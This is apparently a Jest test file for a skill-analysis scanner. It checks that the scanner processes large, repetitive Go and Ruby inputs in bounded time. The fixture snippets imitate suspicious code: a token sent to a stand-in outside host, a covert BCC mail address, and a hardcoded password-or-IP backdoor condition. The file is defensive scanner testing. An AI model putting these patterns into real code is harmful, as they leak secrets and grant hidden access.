import { describe, expect, it } from '@jest/globals';

import { analyse } from '../../../../src/skills/analysis/analyse.js';
import { leastProcessorTime } from '../../../support/processor-time.js';
import { bundleOf } from '../example-bundle.js';

const SIZE = 100_000;
const PARTS: readonly (readonly [string, string])[] = [
  ['addresses', 'http.Post("https://a.bcdefgh.cloud/x", "t", body)\n'],
  ['many addresses', 'x = "https://h$$.bcdefgh$$.cloud/x"\n'],
  ['functions', 'func a(token string) {\n\thttp.Get("https://a.bcdefgh.cloud/?t=" + token)\n}\n'],
  ['one open bracket', 'call((((((((((((((((((((( "https://a.bcdefgh.cloud", token\n'],
  ['mail addresses', 'bcc = append(to, "someone.else@bcdefgh-desk.com") smtp\n'],
  ['many mail addresses', 'bcc = append(to, "someone$$@bcdefgh$$-desk.com") smtp\n'],
  ['slices', 'key = sha256(key[:2]) hmac verify(sig[:2] == sig[:3])\n'],
  ['seeds', 'func token() { rand.NewSource(42) }\n'],
  ['names', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa_'],
  ['quotes', '"\'`"\'`'],
  ['digests', `keys["${'9c1f0e7b5a3d2468'.repeat(4)}"] = load(user)\n`],
  ['conditions', 'if password == "lantern-0412-q77" || remoteAddr == "45.83.122.4" {\n'],
];

/** A text of some length, each repetition with a number of its own. */
function filled(part: string, head: string): string {
  let text = head;
  for (let number = 0; text.length < SIZE; number += 1) text += part.replaceAll('$$', String(number));
  return text;
}

describe('a program that is made to be slow to read', () => {
  it.each(PARTS)('is read in bounded time: %s', (_, part) => {
    for (const path of ['src/a.go', 'src/a.rb']) {
      const text = filled(part, 'func verifyToken(fsnotify, ServeHTTP, Authorization) {\n\thttp.Get(baseURL)\n}\n');
      expect(leastProcessorTime(() => analyse(bundleOf({ 'SKILL.md': '# Example\n', [path]: text })), 1500)).toBeLessThan(1500);
    }
  });
});
